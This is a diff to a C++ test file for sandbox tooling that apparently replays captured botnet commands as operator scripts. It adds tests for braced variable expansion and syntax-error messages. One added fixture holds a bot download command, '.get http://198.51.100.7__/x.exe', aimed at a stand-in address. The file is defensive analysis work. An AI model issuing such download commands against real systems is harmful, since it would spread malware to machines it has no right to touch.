@@ -92,6 +92,7 @@ TEST_CASE("operator script: variables expand to the sandbox and the bot") {
           "10.66.0.200 10.66.0.1 10.66.0.x 10.66.0.0/24 10.66.0.10 [DEU]|x #b0tz $ $X");
     CHECK(expand_operator_text("$TARGET:80/$NICK.", sb, v) == "10.66.0.200:80/[DEU]|x.");
     CHECK(expand_operator_text("$NOPE $", sb, v) == "$NOPE $");  // left as written
+    CHECK(expand_operator_text("${TARGET}_x ${NICK}9", sb, v) == "10.66.0.200_x [DEU]|x9");
     Sandbox wide;
     wide.subnet = *Subnet::parse("10.66.0.0/16");
     CHECK(expand_operator_text("$SUBNET", wide, v) == "10.66.x.x");
@@ -125,6 +126,9 @@ TEST_CASE("operator script: every syntax error names the file and the line") {
         {"say $target\n", "t.txt:1: unknown variable $target"},
         {"say costs $5\n", "t.txt:1: a lone '$'"},
         {"say trailing $\n", "t.txt:1: a lone '$'"},
+        {"say ${TARGET\n", "t.txt:1: a lone '$'"},
+        {"say ${}x\n", "t.txt:1: a lone '$'"},
+        {"say ${TARGETS}\n", "t.txt:1: unknown variable $TARGETS"},
         {"say a\x01VERSION\x01\n", "t.txt:1: control character 0x01 at column 6"},
         {"say a\rb\n", "t.txt:1: control character 0x0D"},
         {"# only comments\n\n", "t.txt:2: the script has no steps"},
@@ -479,6 +483,15 @@ TEST_CASE("from a capture: commands that cannot be replayed are named, limits ho
     CHECK(contains(r->text, "# left out (control characters): .bell ? ring\n"));
     CHECK(contains(r->text, "# left out (longer than 400 bytes): .aaaa"));
     CHECK_FALSE(contains(r->text, "http-only"));
+
+    // An address the text goes on after with '_' (found by fuzz_operator_script): its
+    // variable is braced, or the script would name $SINKHOLE_x and not load.
+    BehaviorResult glued;
+    glued.commands.push_back(cmd(kT0, ".get http://198.51.100.7__/x.exe 203.0.113.9_y"));
+    auto g = script_from_capture(glued, {"g.pcap", "00", std::nullopt}, Sandbox{});
+    REQUIRE_MESSAGE(g, g.error().text());
+    INFO(g->text);
+    CHECK(contains(g->text, "say .get http://${SINKHOLE}__/x.exe ${TARGET}_y\n"));
 
     // 700 commands a minute apart: the script stops at 3600 s of waits, and says so.
     BehaviorResult many;
